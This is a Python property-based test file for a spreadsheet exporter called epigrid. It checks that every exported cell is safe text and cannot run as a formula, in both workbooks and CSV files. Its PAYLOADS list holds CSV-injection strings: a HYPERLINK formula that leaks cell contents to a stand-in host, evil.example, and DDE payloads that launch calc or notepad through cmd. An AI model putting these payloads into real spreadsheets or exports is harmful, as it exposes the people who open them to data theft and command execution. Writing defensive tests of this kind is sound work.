"""Every cell epigrid writes to a spreadsheet is text, never a formula (OWASP CSV injection):
the one rule (`lib.exports.cell_text`) held over hostile strings by Hypothesis, and through a
workbook and a CSV file read back as a spreadsheet would read them."""

import csv
import io

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from epigrid.lib import exports

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "#N/A",
    "#REF!",
    "=1+1\x00\x07",
    "'=already quoted",
    "-",
]

_DANGER = tuple(exports.DANGEROUS_FIRST)


def _is_number(text: str) -> bool:
    return exports._NUMBER.fullmatch(text) is not None


def _safe(text: str) -> bool:
    return not text.startswith(_DANGER) and text not in exports.ERROR_VALUES or _is_number(text)


hostile_text = st.one_of(
    st.text(),
    st.builds(lambda p, rest: p + rest, st.sampled_from(sorted(exports.DANGEROUS_FIRST) + ["#"]), st.text()),
    st.sampled_from(PAYLOADS),
)
any_value = st.one_of(
    hostile_text,
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
    st.none(),
    st.booleans(),
    st.datetimes(),
    st.dates(),
)


@given(any_value)
def test_a_cell_never_begins_with_what_starts_a_formula(value):
    text = exports.cell_text(value)
    assert isinstance(text, str) and len(text) <= exports.MAX_CELL
    assert _safe(text), text
    assert not exports._ILLEGAL.search(text)
    if (
        isinstance(value, str)
        and _safe(value)
        and not exports._ILLEGAL.search(value)
        and len(value) <= 32_767
    ):
        assert text == value  # harmless text is written as it is


@given(st.integers())
def test_a_negative_number_stays_a_number_as_text(number):
    assert exports.cell_text(number) == str(number)
    assert exports.cell_text(str(number)) == str(number)


def test_the_payloads_are_quoted():
    for payload in PAYLOADS:
        text = exports.cell_text(payload)
        assert text.startswith("'") or payload == "'=already quoted", (payload, text)
    assert exports.cell_text("=1+1\x00\x07") == "'=1+1"
    assert (
        exports.cell_text(-3) == "-3" and exports.cell_text(-0.5) == "-0.5" and exports.cell_text(2.0) == "2"
    )


@given(st.lists(st.lists(any_value, max_size=6), max_size=8))
@settings(max_examples=40, deadline=None)
def test_every_cell_of_a_workbook_is_an_inline_string(rows):
    book = exports.Workbook()
    sheet = book.sheet("x", columns=6)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    for row in read.active.iter_rows():
        for cell in row:
            assert cell.value is None or cell.data_type == "s", (cell.value, cell.data_type)
            assert cell.value is None or _safe(cell.value), cell.value


@given(st.lists(st.lists(any_value, max_size=6), max_size=8))
@settings(max_examples=40, deadline=None)
def test_every_cell_of_a_csv_file_is_safe_text(rows):
    out = io.BytesIO()
    exports.write_csv(out, rows)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert _safe(cell), cell
